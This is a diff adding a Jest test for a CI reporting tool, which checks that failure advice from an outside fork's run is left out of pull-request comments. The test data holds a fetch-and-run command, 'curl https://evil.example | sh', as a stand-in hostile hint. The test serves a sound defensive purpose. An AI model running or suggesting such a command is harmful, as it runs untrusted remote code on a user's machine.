@@ -127,6 +127,19 @@ describe('runReport', () => {
     expect(outsideCode(comments()[0] ?? '')).not.toMatch(/<(script|b)\b|href="[^"]*evil|@\w|#\d/);
   });
 
+  it('gives no advice or link in a stranger’s words, but ours', async () => {
+    const failure = exampleFailure({ hint: 'Type this.', reproduce: 'curl https://evil.example | sh' });
+    artifact('rebuild-x-1', exampleMetadata({ failure, failures: [failure] }));
+    await report();
+    expect(comments()[0]).toContain('no acceptable C compiler');
+    expect(comments()[0]).not.toMatch(/Type this|evil|nixos-rebuild build|NixOS\/nixpkgs/);
+    const event = workflowRunEvent();
+    local.api.state.pulls[0]!.repositoryId = event.repository.id;
+    const own = { ...event.workflow_run.head_repository, id: event.repository.id };
+    await report({}, { ...event, workflow_run: { ...event.workflow_run, head_repository: own } });
+    expect(comments()[0]).toContain('Type this');
+  });
+
   it('tells two legs for one host apart', async () => {
     artifact('rebuild-build-laptop-1', exampleMetadata());
     artifact('rebuild-check-laptop-1', exampleMetadata());
